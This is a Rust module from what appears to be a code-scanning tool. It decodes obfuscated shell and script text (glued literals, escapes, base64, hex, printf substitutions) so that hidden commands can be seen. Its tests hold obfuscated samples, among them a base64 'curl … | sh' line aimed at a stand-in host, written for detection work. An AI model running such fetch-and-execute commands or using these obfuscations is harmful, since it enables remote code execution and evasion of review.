//! Decoding steps: string literals glued together, `\x63`/octal/`\u0063` escapes, inline base64 and hex, `$(printf …)`.
//! Each returns the rewritten line, or `None` when the line holds nothing of the kind.

/// Longest string literal merged; longer ones are data, not a hidden word.
const MAX_LITERAL: usize = 256;

fn is_quote(b: u8) -> bool {
    b == b'\'' || b == b'"'
}

/// The end (exclusive, after the closing quote) of a simple string literal
/// starting at `at`: no escapes, no line break, not too long.
fn literal_end(line: &[u8], at: usize) -> Option<usize> {
    let q = *line.get(at)?;
    if !is_quote(q) {
        return None;
    }
    let body = line.get(at + 1..)?;
    let close = body.iter().take(MAX_LITERAL + 1).position(|&b| b == q)?;
    if body[..close].contains(&b'\\') {
        return None;
    }
    Some(at + 1 + close + 1)
}

fn skip_spaces(line: &[u8], mut i: usize) -> usize {
    while line.get(i).is_some_and(|b| *b == b' ' || *b == b'\t') {
        i += 1;
    }
    i
}

/// `'o' + 's'` → `'os'`, and `''.join(['o', 's'])` → `'os'`: how a script
/// spells a module or function name that a reviewer would otherwise see.
pub(super) fn joined_literals(line: &[u8]) -> Option<Vec<u8>> {
    if !line.iter().any(|&b| is_quote(b)) || !(line.contains(&b'+') || contains(line, b".join(")) {
        return None;
    }
    let mut out = Vec::with_capacity(line.len());
    let mut i = 0;
    let mut changed = false;
    while i < line.len() {
        if let Some((merged, next)) = join_call(line, i).or_else(|| plus_chain(line, i)) {
            out.extend_from_slice(&merged);
            i = next;
            changed = true;
            continue;
        }
        // Copy a literal whole, so a quote inside it is never read as an opening.
        match literal_end(line, i) {
            Some(end) => {
                out.extend_from_slice(&line[i..end]);
                i = end;
            }
            None => {
                out.push(line[i]);
                i += 1;
            }
        }
    }
    changed.then_some(out)
}

/// Two or more literals joined by `+`, starting at `at`.
fn plus_chain(line: &[u8], at: usize) -> Option<(Vec<u8>, usize)> {
    let first = literal_end(line, at)?;
    let q = line[at];
    let mut body = line[at + 1..first - 1].to_vec();
    let mut end = first;
    let mut pieces = 1;
    loop {
        let plus = skip_spaces(line, end);
        if line.get(plus) != Some(&b'+') {
            break;
        }
        let next = skip_spaces(line, plus + 1);
        let Some(close) = literal_end(line, next) else {
            break;
        };
        body.extend_from_slice(&line[next + 1..close - 1]);
        end = close;
        pieces += 1;
    }
    (pieces > 1 && !body.contains(&q)).then(|| {
        let mut merged = vec![q];
        merged.extend_from_slice(&body);
        merged.push(q);
        (merged, end)
    })
}

/// `''.join(['a', 'b'])` or `"".join(("a", "b"))`, starting at `at`.
fn join_call(line: &[u8], at: usize) -> Option<(Vec<u8>, usize)> {
    let sep_end = literal_end(line, at)?;
    if sep_end != at + 2 || !line[sep_end..].starts_with(b".join(") {
        return None;
    }
    let mut i = skip_spaces(line, sep_end + 6);
    let open = *line.get(i)?;
    let close = match open {
        b'[' => b']',
        b'(' => b')',
        _ => return None,
    };
    i += 1;
    let mut body = Vec::new();
    loop {
        i = skip_spaces(line, i);
        let end = literal_end(line, i)?;
        body.extend_from_slice(&line[i + 1..end - 1]);
        i = skip_spaces(line, end);
        match line.get(i) {
            Some(b',') => i += 1,
            Some(&b) if b == close => break,
            _ => return None,
        }
    }
    i = skip_spaces(line, i + 1);
    if line.get(i) != Some(&b')') || body.contains(&b'\'') {
        return None;
    }
    let mut merged = vec![b'\''];
    merged.extend_from_slice(&body);
    merged.push(b'\'');
    Some((merged, i + 1))
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    hay.windows(needle.len()).any(|w| w == needle)
}

fn hex_value(b: u8) -> Option<u8> {
    match b {
        b'0'..=b'9' => Some(b - b'0'),
        b'a'..=b'f' => Some(b - b'a' + 10),
        b'A'..=b'F' => Some(b - b'A' + 10),
        _ => None,
    }
}

/// A decoded byte as the view shows it: printable ASCII as is, anything that
/// could break the line or the UTF-8 of the view as a space or `?`.
fn shown(b: u8) -> u8 {
    match b {
        0x20..=0x7e => b,
        b'\t' | b'\n' | b'\r' | 0x0b | 0x0c => b' ',
        _ => b'?',
    }
}

/// Fewest characters of a base64 or hex run worth decoding.
pub(super) const MIN_BLOB: usize = 16;

/// Decodes `\xHH`, `\NNN` (octal), `\uHHHH` escapes, base64 and hex runs that
/// decode to readable text, then unwraps `$(printf 'text')` and `$(echo text)`.
pub(super) fn escapes_and_blobs(line: &[u8]) -> Option<Vec<u8>> {
    let escaped = line.contains(&b'\\');
    let blob = has_blob_run(line);
    let wrapped = contains(line, b"printf") || contains(line, b"echo");
    if !escaped && !blob && !wrapped {
        return None;
    }
    let mut cur: Option<Vec<u8>> = None;
    if escaped && let Some(next) = unescape(line) {
        cur = Some(next);
    }
    if blob && let Some(next) = decode_blobs(cur.as_deref().unwrap_or(line)) {
        cur = Some(next);
    }
    if wrapped && let Some(next) = unwrap_printf(cur.as_deref().unwrap_or(line)) {
        cur = Some(next);
    }
    cur
}

fn unescape(line: &[u8]) -> Option<Vec<u8>> {
    let octal_count = line
        .windows(4)
        .filter(|w| w[0] == b'\\' && w[1..].iter().all(|b| (b'0'..=b'7').contains(b)))
        .count();
    let mut out = Vec::with_capacity(line.len());
    let mut i = 0;
    let mut changed = false;
    while i < line.len() {
        if line[i] == b'\\' && i + 1 < line.len() {
            let at = &line[i + 1..];
            // `\xHH`
            if matches!(at[0], b'x' | b'X')
                && let (Some(h), Some(l)) = (
                    at.get(1).copied().and_then(hex_value),
                    at.get(2).copied().and_then(hex_value),
                )
            {
                out.push(shown(h * 16 + l));
                i += 4;
                changed = true;
                continue;
            }
            // `\u00HH` (only the ASCII range reveals a command or a word)
            if at[0] == b'u'
                && at.len() >= 5
                && at[1..5].iter().all(|&b| hex_value(b).is_some())
                && at[1] == b'0'
                && at[2] == b'0'
            {
                let h = hex_value(at[3]).unwrap_or(0);
                let l = hex_value(at[4]).unwrap_or(0);
                out.push(shown(h * 16 + l));
                i += 6;
                changed = true;
                continue;
            }
            // `\NNN`, when the line uses several: one alone is more often a
            // path or a regex than a hidden word.
            if octal_count >= 3
                && at.len() >= 3
                && at[..3].iter().all(|b| (b'0'..=b'7').contains(b))
            {
                let value = u32::from(at[0] - b'0') * 64
                    + u32::from(at[1] - b'0') * 8
                    + u32::from(at[2] - b'0');
                out.push(shown(u8::try_from(value).unwrap_or(b'?')));
                i += 4;
                changed = true;
                continue;
            }
        }
        out.push(line[i]);
        i += 1;
    }
    changed.then_some(out)
}

fn is_b64(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'+' || b == b'/'
}

/// A cheap look for a run of base64 characters long enough to decode.
fn has_blob_run(line: &[u8]) -> bool {
    let mut run = 0;
    for &b in line {
        if is_b64(b) {
            run += 1;
            if run >= MIN_BLOB {
                return true;
            }
        } else {
            run = 0;
        }
    }
    false
}

/// Replaces base64 and hex runs that decode to readable text with that text.
fn decode_blobs(line: &[u8]) -> Option<Vec<u8>> {
    let mut out = Vec::with_capacity(line.len());
    let mut i = 0;
    let mut changed = false;
    while i < line.len() {
        if !is_b64(line[i]) || (i > 0 && is_b64(line[i - 1])) {
            out.push(line[i]);
            i += 1;
            continue;
        }
        let mut end = i;
        while end < line.len() && is_b64(line[end]) {
            end += 1;
        }
        let mut padded = end;
        while padded < line.len() && padded - end < 2 && line[padded] == b'=' {
            padded += 1;
        }
        let run = &line[i..end];
        let decoded = if run.len() >= MIN_BLOB {
            decode_hex(run).or_else(|| decode_base64(run))
        } else {
            None
        };
        match decoded.filter(|d| readable(d)) {
            Some(text) => {
                out.extend(text.iter().map(|&b| shown(b)));
                i = padded;
                changed = true;
            }
            None => {
                out.extend_from_slice(&line[i..end]);
                i = end;
            }
        }
    }
    changed.then_some(out)
}

/// Decoded bytes that look like a command or a sentence: nearly all
/// printable, with a space, slash or dot somewhere (random bytes rarely are).
fn readable(d: &[u8]) -> bool {
    if d.len() < 8 {
        return false;
    }
    let printable = d
        .iter()
        .filter(|&&b| (0x20..=0x7e).contains(&b) || b == b'\n' || b == b'\t')
        .count();
    printable * 100 >= d.len() * 95 && d.iter().any(|&b| matches!(b, b' ' | b'/' | b'.' | b'|'))
}

fn decode_hex(run: &[u8]) -> Option<Vec<u8>> {
    if !run.len().is_multiple_of(2) || !run.iter().all(|b| b.is_ascii_hexdigit()) {
        return None;
    }
    run.chunks(2)
        .map(|p| Some(hex_value(p[0])? * 16 + hex_value(p[1])?))
        .collect()
}

fn decode_base64(run: &[u8]) -> Option<Vec<u8>> {
    // Plain words and paths are base64 characters too; real payloads mix
    // cases and digits.
    let upper = run.iter().any(u8::is_ascii_uppercase);
    let lower = run.iter().any(u8::is_ascii_lowercase);
    if !(upper && lower) || run.len() % 4 == 1 {
        return None;
    }
    let value = |b: u8| match b {
        b'A'..=b'Z' => Some(b - b'A'),
        b'a'..=b'z' => Some(b - b'a' + 26),
        b'0'..=b'9' => Some(b - b'0' + 52),
        b'+' => Some(62),
        b'/' => Some(63),
        _ => None,
    };
    let mut out = Vec::with_capacity(run.len() * 3 / 4);
    let mut acc = 0u32;
    let mut bits = 0;
    for &b in run {
        acc = (acc << 6) | u32::from(value(b)?);
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push(((acc >> bits) & 0xff) as u8);
        }
    }
    Some(out)
}

/// `$(printf 'x')`, `$(echo x)` and their backtick forms become `x`: the
/// shell runs the printed text as a word of the command.
fn unwrap_printf(line: &[u8]) -> Option<Vec<u8>> {
    let mut out = Vec::with_capacity(line.len());
    let mut i = 0;
    let mut changed = false;
    while i < line.len() {
        let (open_len, close) = if line[i..].starts_with(b"$(") {
            (2, b')')
        } else if line[i] == b'`' {
            (1, b'`')
        } else {
            out.push(line[i]);
            i += 1;
            continue;
        };
        let inner_start = i + open_len;
        let Some(len) = line[inner_start..].iter().position(|&b| b == close) else {
            out.push(line[i]);
            i += 1;
            continue;
        };
        let inner = &line[inner_start..inner_start + len];
        match printed_word(inner) {
            Some(word) => {
                out.extend_from_slice(&word);
                i = inner_start + len + 1;
                changed = true;
            }
            None => {
                out.push(line[i]);
                i += 1;
            }
        }
    }
    changed.then_some(out)
}

/// The text `printf 'x'` / `echo x` prints, when it is a plain literal.
fn printed_word(inner: &[u8]) -> Option<Vec<u8>> {
    let inner = inner.trim_ascii();
    let rest = inner
        .strip_prefix(b"printf")
        .or_else(|| inner.strip_prefix(b"echo"))?;
    if !rest.first().is_some_and(u8::is_ascii_whitespace) {
        return None;
    }
    let mut rest = rest.trim_ascii_start();
    while let Some(after) = rest.strip_prefix(b"-") {
        let flag_end = after.iter().position(|&b| b == b' ').unwrap_or(after.len());
        rest = after[flag_end..].trim_ascii_start();
    }
    if let Some(after) = rest
        .strip_prefix(b"'%s' ")
        .or_else(|| rest.strip_prefix(b"\"%s\" "))
    {
        rest = after.trim_ascii_start();
    }
    let word: Vec<u8> = rest.iter().copied().filter(|&b| !is_quote(b)).collect();
    let plain = !word.is_empty()
        && word.iter().all(|&b| {
            b.is_ascii_alphanumeric() || matches!(b, b' ' | b'-' | b'_' | b'.' | b'/' | b':')
        });
    plain.then_some(word)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn s(v: Option<Vec<u8>>) -> Option<String> {
        v.map(|v| String::from_utf8(v).unwrap())
    }

    #[test]
    fn literals_glued_with_plus_or_join_are_merged() {
        assert_eq!(
            s(joined_literals(b"m = 'o' + 's'; f = \"sys\"+\"tem\"")),
            Some("m = 'os'; f = \"system\"".into())
        );
        assert_eq!(
            s(joined_literals(b"__import__(''.join(['o', 's']))")),
            Some("__import__('os')".into())
        );
        assert_eq!(joined_literals(b"total = a + b"), None);
        assert_eq!(joined_literals(b"print('a' + name)"), None);
    }

    #[test]
    fn escapes_decode_to_their_characters() {
        assert_eq!(
            s(escapes_and_blobs(b"p=$'\\x63\\x75\\x72\\x6c'")),
            Some("p=$'curl'".into())
        );
        assert_eq!(
            s(escapes_and_blobs(b"printf '\\142\\141\\163\\150'")),
            Some("printf 'bash'".into())
        );
        assert_eq!(
            s(escapes_and_blobs(b"s = '\\u0065val'")),
            Some("s = 'eval'".into())
        );
    }

    #[test]
    fn readable_base64_and_hex_are_decoded_but_hashes_are_not() {
        // "curl -s https://x.example/i | sh"
        let b64 = b"echo Y3VybCAtcyBodHRwczovL3guZXhhbXBsZS9pIHwgc2g= | base64 -d";
        assert_eq!(
            s(escapes_and_blobs(b64)),
            Some("echo curl -s https://x.example/i | sh | base64 -d".into())
        );
        let hex = b"bytes.fromhex('6375726c202d73206874') ";
        assert!(s(escapes_and_blobs(hex)).unwrap().contains("curl -s ht"));
        let sha = b"sha256: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
        assert_eq!(escapes_and_blobs(sha), None);
        assert_eq!(
            escapes_and_blobs(b"see /usr/local/share/applications/"),
            None
        );
    }

    #[test]
    fn printf_and_echo_substitutions_unwrap() {
        assert_eq!(
            s(escapes_and_blobs(b"$(printf 'curl') -s x | `echo bash`")),
            Some("curl -s x | bash".into())
        );
        assert_eq!(escapes_and_blobs(b"echo \"$(date)\""), None);
    }
}
